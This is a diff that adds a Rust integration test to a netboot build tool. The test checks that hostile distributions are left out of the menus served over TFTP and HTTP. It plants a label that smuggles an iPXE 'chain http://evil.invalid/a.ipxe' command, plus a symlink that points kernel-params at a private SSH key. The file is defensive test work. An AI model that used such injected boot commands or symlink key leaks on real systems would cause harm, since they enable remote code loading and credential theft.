@@ -286,6 +286,70 @@ fn a_broken_carried_machine_is_left_out_and_the_rest_published() {
     assert_eq!(names, [serde_json::json!("prg:node1")]);
 }
 
+/// Dists written by someone hostile next to the good machine: an iPXE command in the
+/// label (which lands in the shared main menus), a `kernel-params` that is a symlink to a
+/// secret file of the carrier. The build names both and leaves them out; every file
+/// atftpd and nginx serve is what is on disk, and none holds the command or the secret.
+#[test]
+fn hostile_dists_are_not_served_by_atftpd_or_nginx() {
+    const INJECTED: &str = "evil.invalid";
+    const SECRET: &str = "SECRET-KEY-MATERIAL-9d2e";
+    let carrier = Carrier::new();
+    let secret = carrier.dir.path().join("id_ed25519");
+    std::fs::write(&secret, format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{SECRET}\n")).unwrap();
+    let machine_json = |fqdn: &str, label: &str| {
+        serde_json::json!({"fqdn": fqdn, "label": label, "toplevel": "{{nixos-system-hostile}}"}).to_string()
+    };
+    let mut batch = Batch::new();
+    batch.add("nixos-system-hostile", &[("init", Entry::text("#!/bin/sh\n"))]);
+    let label = format!("x ; chain http://{INJECTED}/a.ipxe");
+    batch.add(
+        "dist-label",
+        &[
+            ("bzImage", Entry::text("k")),
+            ("initrd", Entry::text("i")),
+            ("machine.json", Entry::text(machine_json("label.test", &label))),
+        ],
+    );
+    batch.add(
+        "dist-secret",
+        &[
+            ("bzImage", Entry::text("k")),
+            ("initrd", Entry::text("i")),
+            ("kernel-params", Entry::link(secret.display().to_string())),
+            ("machine.json", Entry::text(machine_json("secret.test", "secret"))),
+        ],
+    );
+    let paths = batch.build();
+    set_profile(&carrier.profiles, "label", &paths["dist-label"]);
+    set_profile(&carrier.profiles, "secret", &paths["dist-secret"]);
+
+    let nginx = Nginx::start(&carrier.http_root(), &NginxOptions::default()).unwrap();
+    let out = carrier.run_build(&nginx.url());
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "faults must fail the command: {stderr}");
+    assert!(stderr.contains("published 1 machine") && stderr.contains("2 left out"), "{stderr}");
+    assert!(stderr.contains("profile 'label'") && stderr.contains("field `label`"), "{stderr}");
+    assert!(stderr.contains("profile 'secret'") && stderr.contains("outside the Nix store"), "{stderr}");
+    assert!(!stderr.contains(SECRET), "{stderr}");
+
+    let atftpd = Atftpd::start(&carrier.tftp_root()).unwrap();
+    let tftp = verify_tree_tftp(&carrier.tftp_root(), atftpd.addr, TftpClient::Curl).unwrap();
+    let http = verify_tree_http(&carrier.http_root(), &nginx.url()).unwrap();
+    assert!(tftp.contains(&"ipxe/menu.ipxe".to_string()) && http.contains(&"ipxe/menu.ipxe".to_string()));
+    // Served bytes are the bytes on disk (checked above): search those.
+    for root in [carrier.tftp_root(), carrier.http_root()] {
+        let (files, _) = tree_files(&root).unwrap();
+        for f in files {
+            let bytes = std::fs::read(&f.target).unwrap();
+            for needle in [INJECTED, SECRET] {
+                let found = bytes.windows(needle.len()).any(|w| w == needle.as_bytes());
+                assert!(!found, "{} serves '{needle}' ({})", f.rel, root.display());
+            }
+        }
+    }
+}
+
 /// Rebuilds while atftpd and nginx keep running: each rebuild is served at once, with no
 /// restart. The third build reuses the first build's directories (the spare tree,
 /// patched), and what it serves is exactly what a build from nothing writes.
